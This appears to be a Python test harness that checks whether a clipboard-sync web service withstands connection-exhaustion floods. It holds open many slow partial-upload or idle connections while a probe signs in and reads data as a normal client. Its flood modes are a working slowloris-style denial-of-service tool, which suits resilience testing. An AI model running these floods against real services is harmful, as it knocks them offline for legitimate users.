#!/usr/bin/env python3
"""Floods a service the way an attacker on one address would, and plays a normal client meanwhile.

  flood.py reserve URL [--ca FILE] [--connections N] [--seconds S]
      N connections each declare a 5,000,000-byte upload without credentials, send one byte and
      wait; every connection the service ends is opened again at once.
  flood.py connections URL [--ca FILE] [--connections N] [--seconds S]
      N connections that send nothing; every connection the service ends is opened again at once.
  flood.py probe URL [--ca FILE] --source ADDRESS --email E --password-value P [--times N]
                 [--interval S]
      N times, S seconds apart: sign in (auth/check) and read the stored snapshot (storage/read.html)
      from ADDRESS, as the desktop client does; prints "probe: K of N" and exits 0.
  flood.py prepare URL [--ca FILE] --source ADDRESS --email E --password-value P
      registers the account (whose read then gives the empty clipboard).

URL is http://HOST:PORT or https://HOST:PORT; --ca names the authority to trust for https. Every
flood ends after its seconds and every wait is bounded.
"""

import argparse
import asyncio
import json
import socket
import ssl
import sys
import time
import urllib.parse

UPLOAD_BYTES = 5000000
REQUEST_TIMEOUT = 10.0


def endpoint(url):
    parts = urllib.parse.urlsplit(url)
    secure = parts.scheme == "https"
    return parts.hostname, parts.port or (443 if secure else 80), secure


def tls_context(ca):
    context = ssl.create_default_context(cafile=ca) if ca else ssl.create_default_context()
    return context


async def hold(url, ca, request, deadline, counts):
    """One attacker connection, reopened whenever the service ends it, until the deadline."""
    host, port, secure = endpoint(url)
    context = tls_context(ca) if secure else None
    while time.monotonic() < deadline:
        writer = None
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, ssl=context), timeout=5)
            counts["opened"] += 1
            if request:
                writer.write(request)
                await writer.drain()
            # Held until the service ends it or the flood is over.
            while await asyncio.wait_for(reader.read(4096), timeout=max(0.1, deadline - time.monotonic())):
                pass
            counts["ended"] += 1
        except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError):
            counts["failed"] += 1
            await asyncio.sleep(0.01)
        finally:
            if writer is not None:
                writer.close()


async def flood(args, request):
    deadline = time.monotonic() + args.seconds
    counts = {"opened": 0, "ended": 0, "failed": 0}
    await asyncio.gather(*(hold(args.url, args.ca, request, deadline, counts)
                           for _ in range(args.connections)))
    print(f"flood: {counts['opened']} connections opened, {counts['ended']} ended by the service, "
          f"{counts['failed']} failed to open or were cut", flush=True)


def exchange(url, ca, source, request):
    """Sends one request on a new connection from `source`; the status and the body of the reply."""
    host, port, secure = endpoint(url)
    sock = socket.create_connection((host, port), timeout=REQUEST_TIMEOUT, source_address=(source, 0))
    try:
        if secure:
            sock = tls_context(ca).wrap_socket(sock, server_hostname=host)
        sock.sendall(request)
        received = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            received += chunk
    finally:
        sock.close()
    head, _, body = received.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/") else 0
    return status, body


def form_post(url, path, body):
    host = urllib.parse.urlsplit(url).netloc
    return (f"POST {path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: Mozilla/4.0 (compatible; Synapse)\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
            f"{body}").encode()


def credentials(args):
    return f"email={urllib.parse.quote(args.email, safe='')}&pass={args.password_value}"


def json_status(body):
    try:
        return json.loads(body).get("status", "")
    except ValueError:
        return "<not json>"


def sign_in_and_read(args):
    """The failure of one sign-in and read, or an empty text."""
    try:
        status, body = exchange(args.url, args.ca, args.source,
                                form_post(args.url, "/index.php/auth/check", credentials(args)))
        if json_status(body) != "ok":
            return f"sign-in: HTTP {status} {body[:80]!r}"
        host = urllib.parse.urlsplit(args.url).netloc
        status, body = exchange(args.url, args.ca, args.source,
                                f"GET /storage/read.html?{credentials(args)} HTTP/1.0\r\nHost: {host}\r\n\r\n"
                                .encode())
        if status != 200 or len(body) < 4:
            return f"read: HTTP {status}, {len(body)} bytes"
        return ""
    except (OSError, ssl.SSLError, ValueError) as error:
        return f"{type(error).__name__}: {error}"


def probe(args):
    succeeded = 0
    for attempt in range(args.times):
        started = time.monotonic()
        failure = sign_in_and_read(args)
        if failure:
            print(f"probe {attempt + 1}: {failure}", flush=True)
        else:
            succeeded += 1
        time.sleep(max(0.0, args.interval - (time.monotonic() - started)))
    print(f"probe: {succeeded} of {args.times}", flush=True)


def prepare(args):
    status, body = exchange(args.url, args.ca, args.source,
                            form_post(args.url, "/index.php/auth/register", credentials(args)))
    if json_status(body) not in ("ok",):
        sys.exit(f"prepare: registration answered HTTP {status} {body[:120]!r}")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["reserve", "connections", "probe", "prepare"])
    parser.add_argument("url")
    parser.add_argument("--ca")
    parser.add_argument("--connections", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=15)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--email")
    parser.add_argument("--password-value")
    parser.add_argument("--times", type=int, default=10)
    parser.add_argument("--interval", type=float, default=1.0)
    args = parser.parse_args()
    host = urllib.parse.urlsplit(args.url).netloc
    if args.mode == "reserve":
        request = (f"POST /storage/save.html HTTP/1.1\r\nHost: {host}\r\n"
                   f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {UPLOAD_BYTES}\r\n\r\nx"
                   ).encode()
        asyncio.run(flood(args, request))
    elif args.mode == "connections":
        asyncio.run(flood(args, b""))
    elif args.mode == "probe":
        probe(args)
    else:
        prepare(args)


if __name__ == "__main__":
    main()
